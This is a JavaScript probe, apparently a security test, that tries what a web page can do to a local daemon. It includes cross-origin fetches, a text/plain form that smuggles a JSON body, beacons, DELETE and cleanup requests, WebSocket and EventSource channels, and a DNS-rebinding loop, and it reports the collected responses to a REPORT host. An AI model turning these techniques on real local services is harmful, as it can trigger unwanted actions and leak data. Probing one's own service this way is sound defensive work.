// What a page can try against a server on the same machine. Each attempt tells what it could read.
const seen = [];
const text = async answer => (answer.type === 'opaque' ? '' : answer.status + ' ') + await answer.text();
const json = JSON.stringify({ service_type: 'dev' });

function ask(url, options) {
  return fetch(url, options).then(text);
}

function element(name, attributes, parent = document.body) {
  const made = Object.assign(document.createElement(name), attributes);
  parent.append(made);
  return made;
}

// Loads something into the page: told when it has come, and whether.
function load(name, attributes, read = () => 'loaded') {
  return new Promise(resolve => {
    const made = element(name, {
      ...attributes,
      onload: () => { try { resolve(read(made)); } catch { resolve('blocked'); } },
      onerror: () => resolve('error'),
    });
  });
}

// A frame of another origin has a document that the page can't reach: null.
const inside = frame => frame.contentDocument?.body?.textContent ?? 'blocked';

function frame(attributes) {
  return load('iframe', attributes, inside);
}

function post(base, path, enctype, field, value = '') {
  const name = 'frame' + Math.random();
  // Its own empty page comes at once, before the answer to the form.
  const target = element('iframe', { name });
  const arrived = new Promise(resolve => { target.onload = () => resolve(inside(target)); });
  const form = element('form', { action: base + path, method: 'post', enctype, target: name });
  element('input', { name: field, value }, form);
  form.submit();
  return arrived;
}

function channel(made) {
  return new Promise(resolve => {
    made.onopen = () => resolve('open');
    made.onmessage = message => resolve('message ' + message.data);
    made.onerror = () => { made.close(); resolve('error'); };
  });
}

const attacks = {
  read: base => ask(base + '/allocations'),
  'read with credentials': base => ask(base + '/allocations', { credentials: 'include' }),
  'read blindly': base => ask(base + '/allocations', { mode: 'no-cors' }),
  allocate: base => ask(base + '/allocate', {
    method: 'POST', headers: { 'content-type': 'application/json' }, body: json }),
  'allocate as plain text': base => ask(base + '/allocate', {
    method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: json }),
  release: base => ask(base + '/allocate/LOCK', { method: 'DELETE' }),
  'post a form': base => post(base, '/cleanup', 'application/x-www-form-urlencoded', 'force'),
  // `name=value`, with no escapes: a body that is JSON.
  'post a form of plain text': base =>
    post(base, '/allocate', 'text/plain', '{"service_type":"dev","x":"', '"}'),
  'send a beacon': base => navigator.sendBeacon(base + '/cleanup', '{"force":true}') ? 'sent' : 'error',
  image: base => load('img', { src: base + '/check/3000' }),
  script: base => load('script', { src: base + '/config' }, () => ''),
  frame: base => frame({ src: base + '/status' }),
  socket: base => channel(new WebSocket(base.replace('http', 'ws') + '/events')),
  events: base => channel(new EventSource(base + '/events')),
};

function within(time, promise) {
  return Promise.race([promise, new Promise((_, no) => setTimeout(no, time))]);
}

// The page came from the daemon's own name and port: until the daemon is there, others answer.
async function rebound() {
  await fetch(REPORT + '/loaded', { method: 'POST', mode: 'no-cors' });
  for (;;) {
    try {
      const answer = await fetch('/status');
      if (answer.headers.get('server')?.startsWith('styxy')) return;
    } catch {}
    await new Promise(resolve => setTimeout(resolve, 50));
  }
}

(async () => {
  if (location.search === '?rebind') await rebound();
  for (const base of TARGETS) {
    await Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
      let read;
      try { read = await within(5000, attack(base)); } catch { read = 'blocked'; }
      seen.push([base, name, String(read)]);
    }));
  }
  await fetch(REPORT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
})();
